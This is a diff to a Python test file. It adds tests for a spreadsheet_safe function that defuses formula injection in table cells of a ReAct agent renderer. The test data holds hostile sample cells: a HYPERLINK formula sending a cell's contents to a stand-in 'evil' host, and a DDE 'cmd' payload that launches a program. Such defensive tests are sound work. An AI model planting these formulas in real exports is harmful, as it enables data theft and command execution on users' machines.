@@ -1,8 +1,10 @@
 """The block → widget renderer is a plain function: tested without Streamlit."""
 
+import json
+
 import pytest
 
-from components.render import OBSERVATION_PREVIEW_CHARS, block_widgets, group_indices, safe_label
+from components.render import OBSERVATION_PREVIEW_CHARS, block_widgets, group_indices, safe_label, spreadsheet_safe
 from engine.react.parser import parse_blocks
 from engine.react.types import ReActBlock, ReActType
 
@@ -73,3 +75,39 @@ def test_grouping_and_trace_membership():
     blocks = parse_blocks("Thought: a\nAction: calculator\nAction Input: {}\nObservation: 1\nAnswer: done\nError: x")
     assert group_indices(blocks) == [[0], [1, 2], [3], [4], [5]]
     assert [b.is_trace for b in blocks] == [True, True, True, True, False, False]
+
+
+@pytest.mark.parametrize(
+    "cell, shown",
+    [
+        ('=HYPERLINK("http://evil/?d="&A1, "x")', '\'=HYPERLINK("http://evil/?d="&A1, "x")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("  \r\n=1", "'  \r\n=1"),
+        ("-", "-"),
+        ("-x", "'-x"),
+        ("-3.5", "-3.5"),
+        ("+5%", "+5%"),
+        ("-1 234,5", "-1 234,5"),
+        ("-1,234.50", "-1,234.50"),
+        ("France", "France"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-3.5, -3.5),
+        (None, None),
+        (True, True),
+    ],
+)
+def test_spreadsheet_safe_cells(cell, shown):
+    assert spreadsheet_safe(cell) == shown
+
+
+def test_a_table_block_feeds_the_dataframe_spreadsheet_safe_names_and_cells():
+    payload = {"columns": ["=cmd", "n", "t"], "rows": [["=1+1", -3.5, "-3.5"], ["@x", 2, "ok"]]}
+    block = ReActBlock(type=ReActType.TABLE, content=json.dumps(payload))
+    (expander,) = block_widgets(block)
+    (frame,) = expander.children
+    assert frame.kind == "dataframe"
+    assert frame.data == [{"'=cmd": "'=1+1", "n": -3.5, "t": "-3.5"}, {"'=cmd": "'@x", "n": 2, "t": "ok"}]
